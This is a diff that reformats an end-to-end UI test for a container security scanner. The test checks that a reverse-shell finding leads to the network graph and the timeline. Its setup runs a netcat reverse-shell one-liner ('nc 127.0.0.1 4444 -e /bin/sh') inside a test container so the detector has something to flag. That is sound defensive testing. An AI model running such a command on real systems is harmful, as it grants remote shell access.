@@ -19,7 +19,11 @@ describe('jumps from findings to the network graph and the timeline', { timeout:
 
   beforeAll(async () => {
     await removeSuite(SUITE);
-    await runContainer({ suite: SUITE, name: shell, cmd: ['sh', '-c', 'sleep 3600 | nc -l -p 4444 & sleep 1; nc 127.0.0.1 4444 -e /bin/sh'] });
+    await runContainer({
+      suite: SUITE,
+      name: shell,
+      cmd: ['sh', '-c', 'sleep 3600 | nc -l -p 4444 & sleep 1; nc 127.0.0.1 4444 -e /bin/sh'],
+    });
     const t = await runContainer({ suite: SUITE, name: target, cmd: ['sleep', '3600'] });
     const exec = await t.exec({ Cmd: ['sh', '-c', 'id; sleep 1'], Tty: true, AttachStdout: true });
     execId = exec.id;
@@ -41,7 +45,11 @@ describe('jumps from findings to the network graph and the timeline', { timeout:
   async function openFinding(container: string, title: string) {
     await page.getByTestId('tab-findings').click();
     await page.getByTestId('findings').waitFor();
-    const value = await page.getByTestId('filter-container').locator('option', { hasText: container }).first().getAttribute('value');
+    const value = await page
+      .getByTestId('filter-container')
+      .locator('option', { hasText: container })
+      .first()
+      .getAttribute('value');
     await page.getByTestId('filter-container').selectOption(value!);
     const row = page.getByTestId('finding-row').filter({ hasText: title }).first();
     await row.waitFor({ timeout: 10_000 });
@@ -54,8 +62,15 @@ describe('jumps from findings to the network graph and the timeline', { timeout:
     const view = page.getByTestId('findings');
     await view.waitFor();
     await page.getByTestId('scan-button').click();
-    await expect.poll(() => page.getByTestId('finding-row').filter({ hasText: shell }).count(), { timeout: 200_000, interval: 1000 }).toBeGreaterThan(0);
-    await expect.poll(() => page.getByTestId('finding-row').filter({ hasText: target }).count(), { timeout: 20_000 }).toBeGreaterThan(0);
+    await expect
+      .poll(() => page.getByTestId('finding-row').filter({ hasText: shell }).count(), {
+        timeout: 200_000,
+        interval: 1000,
+      })
+      .toBeGreaterThan(0);
+    await expect
+      .poll(() => page.getByTestId('finding-row').filter({ hasText: target }).count(), { timeout: 20_000 })
+      .toBeGreaterThan(0);
   });
 
   it('reverse shell: finding, then its socket, selects the connection in the network graph', async () => {
@@ -88,7 +103,9 @@ describe('jumps from findings to the network graph and the timeline', { timeout:
     const selected = page.locator('[data-testid="timeline-row"].selected');
     await expect.poll(() => selected.count(), { timeout: 30_000 }).toBe(1);
     expect(await selected.textContent()).toContain('exec_start');
-    await expect.poll(async () => (await page.getByTestId('timeline-detail').textContent()) ?? '').toContain(`execID=${execId}`);
+    await expect
+      .poll(async () => (await page.getByTestId('timeline-detail').textContent()) ?? '')
+      .toContain(`execID=${execId}`);
     // Scrolled into view inside the list.
     const visible = await selected.evaluate((el) => {
       const box = el.getBoundingClientRect();
@@ -122,7 +139,11 @@ describe('jumps from findings to the network graph and the timeline', { timeout:
     await page.locator('body').click({ position: { x: 5, y: 5 } });
     await items.nth(1).click();
     await page.keyboard.press('k');
-    await expect.poll(async () => (await page.locator('[data-testid="container-item"][aria-selected="true"]').textContent()) ?? '').toContain(shell);
+    await expect
+      .poll(
+        async () => (await page.locator('[data-testid="container-item"][aria-selected="true"]').textContent()) ?? '',
+      )
+      .toContain(shell);
     await page.screenshot({ path: artifactPath('evidence-jumps-rail-risk.png') });
   });
 
